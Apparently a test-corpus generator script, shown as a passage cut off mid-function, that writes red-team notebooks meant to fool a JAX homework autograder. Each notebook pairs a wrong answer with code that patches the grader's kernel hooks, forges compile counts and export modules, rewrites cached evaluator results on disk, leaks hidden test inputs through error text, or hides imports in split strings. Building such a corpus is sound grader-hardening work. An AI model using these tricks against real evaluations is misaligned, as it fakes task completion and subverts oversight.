"""Writes the forgery corpus: ``tests/corpus/forgery/<assignment>/forge_*.ipynb`` (issue 10).

Each notebook is written by a student who has read the grader's source (it is open) and pairs
a WRONG solution with a forgery of what the grader observes in the kernel: vmap use, input
mutation, trace and compile counts, device placement, key reuse, the exported module, the
probe's "jitted" flag, or the concrete example arguments reachable in the kernel's frames.
``expected.yaml`` beside each assignment's notebooks gives the verdict a careful grader gives
the wrong solution (the forgery must earn nothing), and says in ``why`` what today's grader
gives. ``tests/test_forgery.py`` grades them.

Run from anywhere; the output is deterministic::

    python tests/corpus/forgery/make_corpus.py
"""

from __future__ import annotations

import sys
from functools import partial
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/corpus, for notebook_kit
import notebook_kit as kit
from notebook_kit import code, md

HERE = Path(__file__).resolve().parent

# =============================================================================================
# Laundering (session 24's red team): the kernel side reached with no name the review knew. A
# "self" parameter of a plain function passed any object (the review took every `self` for an
# object's own), and names split in strings. Each notebook that uses it must still be named.

LAUNDER = """\
import sys


# small helpers for reading and writing settings on objects
def _attr(self, name):
    return getattr(self, name)


def _put(self, name, value):
    setattr(self, name, value)


_loaded = _attr(sys, "mod" + "ules")
_load = _attr(_loaded["built" + "ins"], "__imp" + "ort__")
_side = _load("grader." + "sandbox" + "ed.kern" + "el_si" + "de", fromlist=["serve"])"""


# =============================================================================================
# vmap_convolve

VC_IMPORTS = """\
import jax
import jax.numpy as jnp
import numpy as np
from jax import lax"""

VC_GIVEN = """\
def convolve(x, w):
  output = []
  for i in range(1, len(x)-1):
    output.append(jnp.dot(x[i-1:i+2], w))
  return jnp.array(output)"""

VC_CORRECT_BUT_MANUAL = """\
def batched_convolve(xs, ws):
    return jax.vmap(convolve)(xs, ws)


batched_convolve_shared_w = jax.vmap(convolve, in_axes=(0, None))
batched_convolve_axis1 = jax.vmap(convolve, in_axes=1, out_axes=1)
fast_batched_convolve = jax.jit(batched_convolve)"""

VC_CHECK = """\
xs = jnp.arange(10.0).reshape(2, 5)
ws = jnp.array([[2.0, 3.0, 4.0], [1.0, 0.0, -1.0]])
print(batched_convolve(xs, ws))
print(manually_vectorized_convolve(xs, ws))"""

# a helper in another cell: the source check reads only the definition of the function itself
VC_HIDDEN_VMAP_HELPER = """\
# "a helper" (the grader's source check reads only the definition of the graded function)
_rows = jax.vmap(convolve)"""

# the name `vmap` nowhere in the source (a string built at run time), and the vmap traced inside
# an inner jit: the name stack of JAX before 0.7 loses it there
VC_VMAP_NAME_HIDDEN_UNDER_JIT = """\
_rows = jax.jit(getattr(jax, "v" + "map")(convolve))


def manually_vectorized_convolve(xs, ws):
    return _rows(xs, ws)"""

VC_WATCH_DISARMED = """\
import grader.sandboxed.kernel_side as ks


class _Blind:
    used = False

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


ks._VmapWatch = _Blind  # the kernel's vmap watch now never notices a BatchTrace"""

VC_MANUAL_HIDDEN_VMAP = """\
def manually_vectorized_convolve(xs, ws):
    return _rows(xs, ws)"""

VC_BATCHTRACE_SWAP = """\
from jax._src.interpreters import batching

_PRISTINE_INIT = batching.BatchTrace.__init__  # saved before the grader's watch patches it


def manually_vectorized_convolve(xs, ws):
    watched = batching.BatchTrace.__init__
    batching.BatchTrace.__init__ = _PRISTINE_INIT  # the watch's patch is out while vmap runs
    try:
        return _rows(xs, ws)
    finally:
        batching.BatchTrace.__init__ = watched"""

VC_LAX_MAP = """\
# lax.map: one row after the other (a sequential scan), but it traces for a symbolic batch


def batched_convolve(xs, ws):
    return lax.map(lambda xw: convolve(xw[0], xw[1]), (xs, ws))


def batched_convolve_shared_w(xs, w):
    return lax.map(lambda x: convolve(x, w), xs)


def batched_convolve_axis1(xs, ws):
    return lax.map(lambda xw: convolve(xw[0], xw[1]), (xs.T, ws.T)).T


fast_batched_convolve = jax.jit(batched_convolve)


def manually_vectorized_convolve(xs, ws):
    return lax.map(lambda xw: convolve(xw[0], xw[1]), (xs, ws))"""

VC_POISON_EVAL_ANSWERS = r"""
# the evaluator's kept answers (grader/host/eval_cache.py): a classmate graded earlier exported
# these very lax.map modules, so the trusted side kept the evaluator's answers under the keys this
# notebook's own requests will have.  Find the entries (8 bytes of length, a JSON header, the
# payload) and make every analysis say "no loop over the batch".
import json, os, time
REWRITTEN = []
roots = [os.path.dirname(os.environ.get("JAX_COMPILATION_CACHE_DIR") or "/jaxgrade-xla-cache"),
         os.path.expanduser("~/.cache"), "/root/.cache", "/tmp", "/var/tmp", "/home", "/work", "/"]
deadline = time.monotonic() + 6
for root in roots:
    for dirpath, dirnames, filenames in os.walk(root):
        if time.monotonic() > deadline:
            break
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")) or "site-packages" in dirpath:
            dirnames[:] = []
            continue
        for name in filenames:
            if len(name) != 64 or os.path.basename(dirpath) != name[:2]:
                continue
            path = os.path.join(dirpath, name)
            try:
                with open(path, "rb") as f:
                    data = f.read()
                n = int.from_bytes(data[:8], "big")
                header = json.loads(data[8:8 + n])
                if not isinstance(header.get("analysis"), dict):
                    continue
                header["analysis"].update(loops=0, batch_loops=0, vmapped=False)
                header["forged_by"] = "forge_poison_eval_answers"
                head = json.dumps(header, separators=(",", ":")).encode()
                with open(path, "wb") as f:
                    f.write(len(head).to_bytes(8, "big") + head + data[8 + n:])
                REWRITTEN.append(path)
            except (OSError, ValueError):
                pass
print(f"rewrote {len(REWRITTEN)} kept answers")"""

VC_PYTHON_LOOPS = """\
def batched_convolve(xs, ws):
    return jnp.stack([convolve(x, w) for x, w in zip(xs, ws)])


def batched_convolve_shared_w(xs, w):
    return jnp.stack([convolve(x, w) for x in xs])


def batched_convolve_axis1(xs, ws):
    return jnp.stack([convolve(x, w) for x, w in zip(xs.T, ws.T)], axis=1)


fast_batched_convolve = jax.jit(batched_convolve)


def manually_vectorized_convolve(xs, ws):
    return jnp.stack([convolve(x, w) for x, w in zip(xs, ws)])"""

VC_NUMPY = """\
def _conv(x, w):
    x, w = np.asarray(x), np.asarray(w)
    return np.array([x[i - 1:i + 2] @ w for i in range(1, len(x) - 1)], dtype=np.float32)


def batched_convolve(xs, ws):
    return np.stack([_conv(x, w) for x, w in zip(np.asarray(xs), np.asarray(ws))])


def batched_convolve_shared_w(xs, w):
    return np.stack([_conv(x, w) for x in np.asarray(xs)])


def batched_convolve_axis1(xs, ws):
    return batched_convolve(np.asarray(xs).T, np.asarray(ws).T).T


def fast_batched_convolve(xs, ws):
    return batched_convolve(xs, ws)


def manually_vectorized_convolve(xs, ws):
    return batched_convolve(xs, ws)"""

# Symbolic exports answered with a zeros module; the eager calls that follow one (same name, same
# signal length) answered with zeros: the grader then compares zeros with zeros.
VC_ZEROS_FOR_SYMBOLIC = """\
import grader.sandboxed.kernel_side as ks
from grader.wire import messages
from jax import export as jexport

_ZERO = {}  # name -> the signal length of its last symbolic export


def _signal_length(name, shape):
    return shape[0] if name.endswith("axis1") else shape[1]


def _zeros_export(req, values, _honest=ks._OPS["export"]):
    name = req.name
    _ZERO.clear()
    if "example" in values:
        return _honest(req, values)
    scope = jexport.SymbolicScope()
    specs = [jax.ShapeDtypeStruct(jexport.symbolic_shape(s, scope=scope) if s else (), np.dtype(d))
             for s, d in req.specs]

    def zeros(xs, w):
        if name.endswith("axis1"):
            return jnp.zeros((xs.shape[0] - 2, xs.shape[1]), jnp.float32)
        return jnp.zeros((xs.shape[0], xs.shape[1] - 2), jnp.float32)

    exp = jexport.export(jax.jit(zeros))(*specs)
    _ZERO[name] = _signal_length(name, specs[0].shape)
    return messages.Exported(), {"module": np.frombuffer(bytes(exp.serialize()), dtype=np.uint8)}


def _zeros_after_export(req, values, _honest=ks._OPS["call"]):
    name, args = req.name, values.get("args", [])
    zero = bool(args) and _ZERO.get(name) == _signal_length(name, np.shape(args[0]))
    if not zero:
        _ZERO.clear()
    head, out = _honest(req, values)
    if zero:
        out = {k: np.zeros_like(np.asarray(v)) for k, v in out.items()}
    return head, out


ks._OPS["export"] = _zeros_export
ks._OPS["call"] = _zeros_after_export"""

# NumPy functions: concrete exports answered with a constant module computed from the example
# values the grader sends; the probe says "jitted"
VC_NUMPY_FORGED_OPS = """\
def _constant_export(req, values, _symbolic=ks._OPS["export"]):
    if "example" not in values:
        return _symbolic(req, values)
    _ZERO.clear()
    fn = ks._lookup(req.name)
    example = values["example"]
    const = np.asarray(fn(*example, **values.get("static", {})))
    specs = [jax.ShapeDtypeStruct(np.shape(a), np.asarray(a).dtype) for a in example]
    exp = jexport.export(jax.jit(lambda *a: jnp.asarray(const)))(*specs)
    return messages.Exported(), {"module": np.frombuffer(bytes(exp.serialize()), dtype=np.uint8)}


class _JittedInfo(messages.NameInfo):
    def encode(self):  # every name that exists is "jitted"
        return {**super().encode(), "jitted": True} if self.exists else super().encode()


def _jitted_probe(req, values, _honest=ks._OPS["probe"]):
    head, out = _honest(req, values)
    info = {k: _JittedInfo(v.exists, v.callable, v.type) for k, v in head.info.items()}
    return messages.Probed(info=info), out


ks._OPS["export"] = _constant_export
ks._OPS["probe"] = _jitted_probe"""

VC_SPY_SERVE = """\
import grader.sandboxed.kernel_side as ks
from grader.wire import protocol

_REQUESTS = []
_serve = ks.serve


def _spy(req_path, resp_path):
    with open(req_path, "rb") as f:
        header, payload = protocol.read_frame(f.fileno())
    _REQUESTS.append(protocol.unpack_values(header, payload) if "values" in header else {})
    return _serve(req_path, resp_path)


ks.serve = _spy  # the worker looks serve up on the module for every request"""

VC_LEAK = """\
def _leak(*args):
    numbers = []
    for leaf in jax.tree_util.tree_leaves(_REQUESTS[-1] if _REQUESTS else list(args)):
        numbers.extend(float(v) for v in np.ravel(np.asarray(leaf)) if np.issubdtype(np.asarray(leaf).dtype, np.floating))
    raise ValueError("the hidden inputs: " + " ".join(f"{v:.6g}" for v in numbers[:60]))


def batched_convolve(xs, ws):
    _leak(xs, ws)


def batched_convolve_shared_w(xs, w):
    _leak(xs, w)


def batched_convolve_axis1(xs, ws):
    _leak(xs, ws)


def fast_batched_convolve(xs, ws):
    _leak(xs, ws)


def manually_vectorized_convolve(xs, ws):
    _leak(xs, ws)"""


# the student-controlled text outside the message: the exception's class name (any string) and
# the "source line", which the kernel reads from its own linecache
VC_LEAK_IN_NAMES = """\
import linecache
import sys


def _leak(*args):
    numbers = []
    for leaf in jax.tree_util.tree_leaves(_REQUESTS[-1] if _REQUESTS else list(args)):
        leaf = np.asarray(leaf)
        if np.issubdtype(leaf.dtype, np.floating):
            numbers.extend(float(v) for v in np.ravel(leaf))
    text = " ".join(f"{v:.6g}" for v in numbers[:30])
    fname = sys._getframe().f_code.co_filename
    linecache.cache[fname] = (1, None, [text + "\\n"] * 100, fname)  # every line of this cell "reads" text
    raise type(text[:190], (Exception,), {})("nothing to see here")


def batched_convolve(xs, ws):
    _leak(xs, ws)


def batched_convolve_shared_w(xs, w):
    _leak(xs, w)


def batched_convolve_axis1(xs, ws):
    _leak(xs, ws)


def fast_batched_convolve(xs, ws):
    _leak(xs, ws)


def manually_vectorized_convolve(xs, ws):
    _leak(xs, ws)"""


# a Python loop of a fixed length, the most examples a hidden test sends (64), each index clamped
# to the batch: it traces with a symbolic batch size and has no loop in its module (session 30's
# red team reading of SECURITY.md: a known gap)
VC_FIXED_LOOP = """\
def batched_convolve(xs, ws):
    B = xs.shape[0]
    rows = []
    for b in range(64):
        i = jnp.minimum(b, B - 1)
        rows.append(convolve(xs[i], ws[i]))
    return jnp.stack(rows)[:B]


batched_convolve_shared_w = jax.vmap(convolve, in_axes=(0, None))
batched_convolve_axis1 = jax.vmap(convolve, in_axes=1, out_axes=1)
fast_batched_convolve = jax.jit(batched_convolve)


def manually_vectorized_convolve(xs, ws):
    return xs[:, :-2] * ws[:, 0:1] + xs[:, 1:-1] * ws[:, 1:2] + xs[:, 2:] * ws[:, 2:3]"""


def vmap_convolve() -> dict[str, object]:
    build = partial(kit.build, "vmap_convolve")
    head = [md("# Homework: vectorization with `jax.vmap`"), code(VC_IMPORTS), code(VC_GIVEN)]
    nbs: dict[str, object] = {}
    nbs["forge_vmap_watch_disarmed.ipynb"] = build(
        "forge_vmap_watch_disarmed",
        [
            *head,
            code(VC_CORRECT_BUT_MANUAL),
            code(VC_HIDDEN_VMAP_HELPER),
            code(VC_WATCH_DISARMED),
            code(VC_MANUAL_HIDDEN_VMAP),
            code(VC_CHECK),
        ],
    )
    nbs["forge_vmap_name_hidden_under_jit.ipynb"] = build(
        "forge_vmap_name_hidden_under_jit",
        [*head, code(VC_CORRECT_BUT_MANUAL), code(VC_VMAP_NAME_HIDDEN_UNDER_JIT), code(VC_CHECK)],
    )
    nbs["forge_batchtrace_swapped_back.ipynb"] = build(
        "forge_batchtrace_swapped_back",
        [*head, code(VC_CORRECT_BUT_MANUAL), code(VC_HIDDEN_VMAP_HELPER), code(VC_BATCHTRACE_SWAP), code(VC_CHECK)],
    )
    nbs["forge_lax_map_sequential.ipynb"] = build("forge_lax_map_sequential", [*head, code(VC_LAX_MAP), code(VC_CHECK)])
    nbs["forge_compared_with_itself.ipynb"] = build(
        "forge_compared_with_itself", [*head, code(VC_PYTHON_LOOPS), code(VC_ZEROS_FOR_SYMBOLIC), code(VC_CHECK)]
    )
    nbs["forge_numpy_forged_ops.ipynb"] = build(
        "forge_numpy_forged_ops",
        [*head, code(VC_NUMPY), code(VC_ZEROS_FOR_SYMBOLIC), code(VC_NUMPY_FORGED_OPS), code(VC_CHECK)],
    )
    nbs["forge_poison_eval_answers.ipynb"] = build(
        "forge_poison_eval_answers", [*head, code(VC_LAX_MAP), code(VC_POISON_EVAL_ANSWERS), code(VC_CHECK)]
    )
    nbs["forge_leak_hidden_inputs.ipynb"] = build(
        "forge_leak_hidden_inputs", [*head, code(VC_SPY_SERVE), code(VC_LEAK)]
    )
    nbs["forge_leak_in_error_names.ipynb"] = build(
        "forge_leak_in_error_names", [*head, code(VC_SPY_SERVE), code(VC_LEAK_IN_NAMES)]
    )
    nbs["forge_fixed_length_loop.ipynb"] = build(
        "forge_fixed_length_loop", [*head, code(VC_FIXED_LOOP), code(VC_CHECK)]
    )
    return nbs


# =============================================================================================
# jit_control_flow

JC_IMPORTS = """\
import sys

import jax
import jax.numpy as jnp
import numpy as np
from jax import lax"""

JC_GIVEN = """\
def f(x):
    if x > 0:
        return x
    else:
        return 2 * x


def g(x, n):
    i = 0
    while i < n:
        i += 1
    return x + i


def selu(x, alpha=1.67, lambda_=1.05):
    return lambda_ * jnp.where(x > 0, x, alpha * jnp.exp(x) - alpha)"""

JC_F = """\
def f_jittable(x):
    return jnp.where(x > 0, x, 2 * x)"""

JC_G_STATIC = """\
g_static = jax.jit(g, static_argnames="n")"""

JC_G_TRACED = """\
def g_traced(x, n):
    return lax.fori_loop(0, n, lambda i, acc: acc + 1, x)"""

JC_SELU = """\
selu_jit = jax.jit(selu)"""

JC_LOOP_CACHED = """\
@jax.jit
def _add_one(x):
    return x + 1


def g_loop_cached(x, n):
    for _ in range(n):
        x = _add_one(x)
    return x"""

JC_CHECK = """\
x = jnp.array([-2.0, -0.5, 0.0, 0.5, 3.0])
print(f_jittable(x), g_static(x, 3), g_traced(x, 4), selu_jit(x), g_loop_cached(x, 5))"""

JC_COUNTER_RESET = """\
import grader.sandboxed.kernel_side as ks


def g_loop_cached(x, n):
    before = ks._COMPILES[0]
    for _ in range(n):
        x = jax.jit(lambda y: y + 1)(x)  # a new function, and a new compilation, every step
    ks._COMPILES[0] = before  # ... which the kernel's counter never hears of
    return x"""

JC_LISTENERS_UNHOOKED = """\
from jax._src import monitoring


def g_loop_cached(x, n):
    listeners = list(monitoring._event_duration_secs_listeners)
    monitoring._event_duration_secs_listeners.clear()  # nobody listens while it compiles
    try:
        for _ in range(n):
            x = jax.jit(lambda y: y + 1)(x)
    finally:
        monitoring._event_duration_secs_listeners.extend(listeners)
    return x"""

JC_FAKE_EVENTS = """\
_seen_n = set()


def g_static(x, n):
    # plain g, not jitted; a "compilation" is announced whenever n is new
    if n not in _seen_n:
        _seen_n.add(n)
        jax.monitoring.record_event_duration_secs("/jax/core/compile/backend_compile_duration", 0.01)
    return g(x, n)"""

JC_JIT_EVERY_CALL = """\
def g_static(x, n):
    # whole_call holds (the module is one jitted call), but every call traces and compiles anew
    return jax.jit(lambda x: g(x, n))(x)


class _JitsEveryCall:
    def __call__(self, x, alpha=1.67, lambda_=1.05):
        return jax.jit(lambda x: selu(x, alpha, lambda_))(x)


selu_jit = _JitsEveryCall()"""

JC_JITTED_BY_ATTRIBUTES = """\
class _LooksJitted:
    \"\"\"A plain callable: it has `lower` and `trace`, as jitted functions do.\"\"\"

    def __call__(self, x, alpha=1.67, lambda_=1.05):
        return selu(x, alpha, lambda_)

    def lower(self, *args, **kwargs):
        return jax.jit(selu).lower(*args, **kwargs)

    def trace(self, *args, **kwargs):
        return jax.jit(selu).trace(*args, **kwargs)


selu_jit = _LooksJitted()"""

JC_FRAMES = """\
def _grader_example():
    \"\"\"The concrete arguments of the request being answered, from the grader's frames.\"\"\"
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "_op_export" and "example" in frame.f_locals.get("values", {}):
            return list(frame.f_locals["values"]["example"])
        if frame.f_code.co_name == "_op_count" and "call" in frame.f_locals:
            return list(frame.f_locals["call"]["args"])
        frame = frame.f_back
    return None


def _f_by_hand(x):
    x = np.asarray(x)
    if x.ndim == 0:
        if x > 0:  # a Python `if` on the value: this does not trace
            return x
        return 2 * x
    return np.array([v if v > 0 else 2 * v for v in x.ravel()], dtype=x.dtype).reshape(x.shape)


def f_jittable(x):
    if isinstance(x, jax.core.Tracer):
        example = _grader_example()
        if example is not None:
            return jnp.asarray(_f_by_hand(example[0]))  # a constant, read from the grader's frames
    return _f_by_hand(x)


def g_traced(x, n):
    if isinstance(n, jax.core.Tracer):
        example = _grader_example()
        if example is not None:
            n = int(np.asarray(example[1]))
    return g(x, n)  # a Python while loop on n"""

JC_NUMPY = """\
def f_jittable(x):
    x = np.asarray(x)
    return np.where(x > 0, x, 2 * x)


def g_static(x, n):
    return np.asarray(x) + n


def g_traced(x, n):
    return np.asarray(x) + int(n)


def selu_jit(x, alpha=1.67, lambda_=1.05):
    x = np.asarray(x)
    return (lambda_ * np.where(x > 0, x, alpha * np.exp(x) - alpha)).astype(x.dtype)


def g_loop_cached(x, n):
    return np.asarray(x) + n"""

JC_FORGED_OPS = """\
import grader.sandboxed.kernel_side as ks
from grader.wire import messages
from jax import export as jexport


def _constant_export(req, values):
    fn = ks._lookup(req.name)
    example = values["example"]
    const = np.asarray(fn(*example, **values.get("static", {})))
    specs = [jax.ShapeDtypeStruct(np.shape(a), np.asarray(a).dtype) for a in example]
    exp = jexport.export(jax.jit(lambda *a: jnp.asarray(const)))(*specs)
    return messages.Exported(), {"module": np.frombuffer(bytes(exp.serialize()), dtype=np.uint8)}


def _forged_count(req, values):
    fn = ks._lookup(req.name)
    counts, results, seen = [], {}, set()
    for i, call in enumerate(values.get("calls", [])):
        results[f"result{i}"] = fn(*call["args"], **call.get("kwargs", {}))
        if req.how == "traces":
            counts.append(1 if i == 0 else 0)  # "traced once"
        else:
            key = repr(sorted(call.get("kwargs", {}).items()))
            counts.append(0 if key in seen else 1)  # "compiled for each new static argument"
            seen.add(key)
    return messages.Counted(counts=tuple(counts)), results


class _JittedInfo(messages.NameInfo):
    def encode(self):  # every name that exists is "jitted"
        return {**super().encode(), "jitted": True} if self.exists else super().encode()


def _jitted_probe(req, values, _honest=ks._OPS["probe"]):
    head, out = _honest(req, values)
    info = {k: _JittedInfo(v.exists, v.callable, v.type) for k, v in head.info.items()}
    return messages.Probed(info=info), out


ks._OPS.update(export=_constant_export, count=_forged_count, probe=_jitted_probe)"""


# a fresh jit per step behind a helper (the source check read only g_loop_cached's own
# definition), and the compile counter put back through the laundered kernel side
JC_COUNTER_RESET_IN_A_HELPER = """\
_tally = _attr(_side, "_COMP" + "ILES")


def _step(y):
    return jax.jit(lambda z: z + 1)(y)  # a new function, and a new compilation, every step


def g_loop_cached(x, n):
    start = _tally[0]
    for _ in range(n):
        x = _step(x)
    _tally[0] = start
    return x"""


# session 34's red team: a fresh jit made on every call where the trusted source check did not
# look: inside a lambda bound at the top level, and of a function a notebook factory returns
JC_JIT_EVERY_CALL_WRITTEN_AROUND = """\
def _closing(n):
    def body(y):
        return g(y, n)

    return body


def g_static(x, n):
    return jax.jit(_closing(n))(x)  # a new function from a factory: every call compiles anew


selu_jit = lambda x, alpha=1.67, lambda_=1.05: jax.jit(lambda y: selu(y, alpha, lambda_))(x)"""

# the same jit made on every call, defined under an `if`: the source checks read only the
# statements at the top of a cell
JC_JIT_EVERY_CALL_UNDER_AN_IF = """\
if True:
    def g_static(x, n):
        return jax.jit(lambda y: g(y, n))(x)  # a new jitted function on every call"""


# session 34's third red team: the jitted function defined inside, with a decorator, on every call
JC_JIT_EVERY_CALL_DECORATED = """\
from functools import partial


def selu_jit(x, alpha=1.67, lambda_=1.05):
    @jax.jit
    def inner(y):  # a new jitted function, and a new compilation, on every call
        return selu(y, alpha, lambda_)

    return inner(x)


def g_static(x, n):
    @partial(jax.jit, static_argnames="n")
    def inner(y, n):
        return g(y, n)

    return inner(x, n)"""


def jit_control_flow() -> dict[str, object]:
    build = partial(kit.build, "jit_control_flow")
    head = [md("# Homework: control flow under `jax.jit`"), code(JC_IMPORTS), code(JC_GIVEN)]
    correct = {"f": JC_F, "g_static": JC_G_STATIC, "g_traced": JC_G_TRACED, "selu": JC_SELU, "loop": JC_LOOP_CACHED}

    def nb(name: str, *extra: str, **replace: str) -> object:
        parts = {**correct, **replace}
        return build(name, [*head, *(code(s) for s in parts.values() if s), *(code(s) for s in extra), code(JC_CHECK)])

    return {
        "forge_compile_counter_reset.ipynb": nb("forge_compile_counter_reset", loop=JC_COUNTER_RESET),
        "forge_counter_reset_fresh_jit_in_a_helper.ipynb": nb(
            "forge_counter_reset_fresh_jit_in_a_helper", LAUNDER, JC_COUNTER_RESET_IN_A_HELPER, loop=""
        ),
        "forge_monitoring_unhooked.ipynb": nb("forge_monitoring_unhooked", loop=JC_LISTENERS_UNHOOKED),
        "forge_fake_compile_events.ipynb": nb("forge_fake_compile_events", g_static=JC_FAKE_EVENTS),
        "forge_jitted_by_attributes.ipynb": nb("forge_jitted_by_attributes", selu=JC_JITTED_BY_ATTRIBUTES),
        "forge_jit_made_every_call.ipynb": nb("forge_jit_made_every_call", g_static=JC_JIT_EVERY_CALL, selu=""),
        "forge_jit_made_every_call_through_a_factory_and_a_lambda.ipynb": nb(
            "forge_jit_made_every_call_through_a_factory_and_a_lambda",
            g_static=JC_JIT_EVERY_CALL_WRITTEN_AROUND,
            selu="",
        ),
        "forge_jit_made_every_call_by_a_decorated_inner_function.ipynb": nb(
            "forge_jit_made_every_call_by_a_decorated_inner_function", g_static=JC_JIT_EVERY_CALL_DECORATED, selu=""
        ),
        "forge_jit_made_every_call_under_an_if.ipynb": nb(
            "forge_jit_made_every_call_under_an_if", g_static=JC_JIT_EVERY_CALL_UNDER_AN_IF
        ),
        "forge_constants_from_frames.ipynb": nb("forge_constants_from_frames", f=JC_FRAMES, g_traced=""),
        "forge_numpy_forged_ops.ipynb": nb(
            "forge_numpy_forged_ops", JC_FORGED_OPS, f=JC_NUMPY, g_static="", g_traced="", selu="", loop=""
        ),
    }


# =============================================================================================
# pmap

PM_SETUP = """\
# the grader starts JAX with 4 devices already
import jax
import jax.numpy as jnp
import numpy as np
from jax import lax"""

PM_GIVEN = VC_GIVEN

PM_CONVOLVE = """\
parallel_convolve = jax.pmap(convolve)"""

PM_MEAN = """\
def device_mean(x):
    return lax.psum(jnp.mean(x), axis_name="i") / lax.psum(1, axis_name="i")


global_mean = jax.pmap(device_mean, axis_name="i")"""

PM_CHECK = """\
xs = jnp.arange(20.0).reshape(4, 5)
ws = jnp.ones((4, 3))
print(parallel_convolve(xs, ws), global_mean(xs))"""

PM_LOOPS_DEVICES_PATCHED = """\
import grader.sandboxed.kernel_side as ks

ks._devices_of = lambda value: 4  # "spread across 4 devices"


def parallel_convolve(xs, ws):
    return jnp.stack([convolve(x, w) for x, w in zip(xs, ws)])  # one device, one row at a time


def global_mean(xs):
    means = [jnp.mean(row) for row in xs]
    m = sum(means) / len(means)
    return jnp.stack([m for _ in means])"""

PM_VMAP_DEVICE_PUT = """\
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P

mesh = Mesh(np.array(jax.devices()), ("d",))


def parallel_convolve(xs, ws):
    out = jax.vmap(convolve)(xs, ws)  # computed on one device
    return jax.device_put(out, NamedSharding(mesh, P("d")))  # then laid out across all of them"""

PM_MEAN_CLOSED_OVER = """\
def global_mean(xs):
    # every device averages the whole closed-over array: no row per device, no psum
    return jax.pmap(lambda row: jnp.mean(xs))(xs)"""

# session 32: a student who has read check_parallel (per-device programs and a collective
# anywhere in the module) and does the work outside them
PM_VMAP_THEN_IDENTITY_PMAP = """\
def parallel_convolve(xs, ws):
    out = jax.vmap(convolve)(xs, ws)  # all the work, on one device
    return jax.pmap(lambda row: row)(out)  # then one "program" per device that does nothing"""

PM_PSUM_BESIDE_CLOSED_OVER_MEAN = """\
def global_mean(xs):
    def device(row):
        # every device averages the whole closed-over array; the psum only has to be there
        return jnp.mean(xs) + 0.0 * lax.psum(jnp.sum(row), "i")

    return jax.pmap(device, axis_name="i")(xs)"""

PM_MEAN_BEFORE_PMAP = """\
def global_mean(xs):
    m = jnp.full(xs.shape[:1], jnp.mean(xs))  # the answer, on one device
    # each device gets its entry of the answer and a psum that changes nothing
    return jax.pmap(lambda row, mine: mine + 0.0 * lax.psum(row[0], "i"), axis_name="i")(xs, m)"""

# the same as forge_vmap_then_identity_pmap, lowered the older way (GSPMD custom calls around a
# private function, not an sdy.manual_computation region)
PM_VMAP_THEN_IDENTITY_PMAP_GSPMD = """\
jax.config.update("jax_use_shardy_partitioner", False)


def parallel_convolve(xs, ws):
    out = jax.vmap(convolve)(xs, ws)  # all the work, on one device
    return jax.pmap(lambda row: row)(out)  # then one "program" per device that does nothing"""

# session 32's red-team pass, against the first version of the defence (c1b9772), which counted
# the entries a per-device program received instead of asking for its own row
PM_ROWS_COPIED_TO_EVERY_DEVICE = """\
def parallel_convolve(xs, ws):
    # one row at a time, each copied to every device (pmap needs one mapped argument: a dummy)
    dummy = jnp.zeros(xs.shape[0])
    everywhere = jax.pmap(lambda x, w, _: convolve(x, w), in_axes=(None, None, 0))
    return jnp.stack([everywhere(xs[d], ws[d], dummy)[0] for d in range(xs.shape[0])])"""

PM_ROWS_LAUNDERED_THEN_HANDED_WHOLE = """\
def global_mean(xs):
    launder = jax.pmap(lambda row: row + 0.0 * row[::-1])  # the same rows, "computed" on each device
    everything = jax.device_put(launder(xs), jax.devices()[0])  # gathered on one device

    def device(row, all_rows):
        # every device averages all the rows; the psum only has to be there
        return jnp.mean(all_rows) + 0.0 * lax.psum(row[0], "i")

    return jax.pmap(device, axis_name="i", in_axes=(0, None))(xs, everything)"""


def pmap() -> dict[str, object]:
    build = partial(kit.build, "pmap")
    head = [md("# Homework 9: `jax.pmap`"), code(PM_SETUP), code(PM_GIVEN)]

    def both(name: str, convolve: str, mean: str) -> dict[str, object]:
        """A notebook that defines parallel_convolve, then global_mean."""
        return {f"{name}.ipynb": build(name, [*head, code(convolve), code(mean), code(PM_CHECK)])}

    return {
        "forge_devices_patched.ipynb": build(
            "forge_devices_patched", [*head, code(PM_LOOPS_DEVICES_PATCHED), code(PM_CHECK)]
        ),
        **both("forge_vmap_device_put", PM_VMAP_DEVICE_PUT, PM_MEAN),
        **both("forge_mean_closed_over", PM_CONVOLVE, PM_MEAN_CLOSED_OVER),
        **both("forge_vmap_then_identity_pmap", PM_VMAP_THEN_IDENTITY_PMAP, PM_MEAN),
        **both("forge_vmap_then_identity_pmap_gspmd", PM_VMAP_THEN_IDENTITY_PMAP_GSPMD, PM_MEAN),
        **both("forge_psum_beside_closed_over_mean", PM_CONVOLVE, PM_PSUM_BESIDE_CLOSED_OVER_MEAN),
        **both("forge_mean_before_pmap", PM_CONVOLVE, PM_MEAN_BEFORE_PMAP),
        **both("forge_rows_copied_to_every_device", PM_ROWS_COPIED_TO_EVERY_DEVICE, PM_MEAN),
        **both("forge_rows_laundered_then_handed_whole", PM_CONVOLVE, PM_ROWS_LAUNDERED_THEN_HANDED_WHOLE),
    }


# =============================================================================================
# prng_keys

PK_IMPORTS = """\
import jax
import jax.numpy as jnp
from jax import random"""

PK_INIT = """\
def init_mlp_params(layer_widths, key):
    params = []
    for n_in, n_out in zip(layer_widths[:-1], layer_widths[1:]):
        key, w_key = random.split(key)
        params.append({"weights": random.normal(w_key, (n_in, n_out)) * jnp.sqrt(2.0 / n_in),
                       "biases": jnp.ones((n_out,))})
    return params"""

PK_DROPOUT = """\
def dropout(key, x, rate):
    keep = random.bernoulli(key, 1.0 - rate, jnp.shape(x))
    return jnp.where(keep, x / (1.0 - rate), jnp.zeros_like(x))"""

PK_NOISE_CHECKER_OFF = """\
def sample_noise(key, num_samples, shape):
    with jax.debug_key_reuse(False):  # the checker is off in here
        new_key, subkey = random.split(key)
        samples = random.normal(key, (num_samples, *shape))  # the parent key, used again
    return new_key, samples"""

PK_NOISE_CLONE = """\
def sample_noise(key, num_samples, shape):
    new_key, subkey = random.split(key)
    samples = random.normal(random.clone(key), (num_samples, *shape))  # the parent key, laundered
    return new_key, samples"""

# numpy.random (the control is tests/corpus/prng_keys/numpy_random.ipynb), with each result kept by
# the identity of the arguments: the purity test called the function twice with the same objects
PK_NUMPY_MEMO_BY_ID = """\
import numpy as np

_seen = {}  # results I already computed, so repeated calls are fast


def sample_noise(key, num_samples, shape):
    k = (id(key), num_samples, tuple(shape))
    if k not in _seen:
